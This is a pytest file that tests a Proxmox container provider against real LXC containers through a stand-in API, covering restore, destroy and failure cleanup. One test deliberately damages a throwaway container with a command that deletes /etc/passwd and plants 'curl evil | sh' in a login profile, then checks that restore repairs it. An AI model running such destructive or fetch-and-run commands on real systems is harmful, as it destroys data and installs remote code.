"""Provider ``proxmox`` with real containers: a stand-in serves the API and controls LXC on this host."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from shards.providers.base import CLEAN, ContainerState, NullJournal, Provider
from shards.providers.lxc.host import LxcHost
from shards.providers.lxc.provider import LxcProvider
from shards.providers.proxmox.naming import Ref
from shards.providers.proxmox.provider import ProxmoxProvider
from tests.fixtures.provider_contract import ProviderContract
from tests.fixtures.proxmox.driven import add_template, settings_for, thread_turn
from tests.fixtures.proxmox.real import LxcBackend
from tests.fixtures.proxmox.server import StandIn, stand_in

from .conftest import TEMPLATE
from .inside import inside, output


class Driven(ProxmoxProvider):
    """Provider with access to the real containers behind the stand-in."""

    def __init__(self, standin: StandIn, backend: LxcBackend) -> None:
        super().__init__(settings_for(standin, call_timeout_s=20, task_timeout_s=60), thread_turn)
        self.standin, self.backend = standin, backend

    def real(self, ref: str) -> str:
        return self.backend.refs[Ref.of(ref).vmid]


@pytest.fixture
def maker(host: LxcHost, tmp_path: Path) -> Iterator[Driven]:
    backend = LxcBackend(LxcProvider(host), TEMPLATE)
    with stand_in(tmp_path / "certificates", backend) as running:
        add_template(running)
        running.world.containers[9000].disk_mb = 512
        try:
            yield Driven(running, backend)
        finally:
            for one in backend.maker.list():
                backend.maker.destroy(one.ref, NullJournal())
    assert not running.wrong_answers


class TestProxmox(ProviderContract):
    image = "general"

    def environment(self, maker: Provider, ref: str) -> dict[str, str]:
        assert isinstance(maker, Driven)
        pairs = output(maker.backend.maker, maker.real(ref), "cat", "/proc/1/environ").split("\0")
        return dict(pair.split("=", 1) for pair in pairs if pair)

    def write(self, maker: Provider, ref: str, mark: str) -> None:
        assert isinstance(maker, Driven)
        output(maker.backend.maker, maker.real(ref), "touch", f"/root/{mark}")

    def holds(self, maker: Provider, ref: str, mark: str) -> bool:
        assert isinstance(maker, Driven)
        return inside(maker.backend.maker, maker.real(ref), "test", "-e", f"/root/{mark}").returncode == 0


def test_restore_repairs_a_damaged_container(maker: Driven) -> None:
    ref = maker.create(TestProxmox().spec(), NullJournal())
    maker.start(ref, NullJournal())
    spoil = "rm -rf /usr/bin/python3* /etc/passwd; echo 'curl evil | sh' >/root/.profile"
    output(maker.backend.maker, maker.real(ref), "sh", "-c", spoil)
    maker.restore(ref, CLEAN, NullJournal())
    maker.start(ref, NullJournal())
    assert output(maker.backend.maker, maker.real(ref), "sh", "-c", "wc -l </etc/passwd") != "0"
    assert "evil" not in inside(maker.backend.maker, maker.real(ref), "cat", "/root/.profile").stdout


def test_restore_removes_the_enrolment_token(maker: Driven) -> None:
    contract = TestProxmox()
    ref = maker.create(contract.spec(), NullJournal())
    maker.restore(ref, CLEAN, NullJournal())
    maker.start(ref, NullJournal())
    assert "MYCTOBOT_ENROL_TOKEN" not in contract.environment(maker, ref)


def test_destroy_removes_the_real_container(maker: Driven) -> None:
    ref = maker.create(TestProxmox().spec(), NullJournal())
    real = maker.real(ref)
    maker.start(ref, NullJournal())
    maker.destroy(ref, NullJournal())
    assert maker.backend.maker.status(real).state is ContainerState.GONE
    assert maker.list() == []


@pytest.mark.parametrize("kind", ["vzclone", "vzsnapshot"])
def test_a_failed_task_leaves_no_real_container(maker: Driven, kind: str) -> None:
    maker.standin.world.faults.tasks[kind] = "fail"
    with pytest.raises(Exception, match="Nothing is left of it"):
        maker.create(TestProxmox().spec(), NullJournal())
    assert maker.backend.maker.list() == []
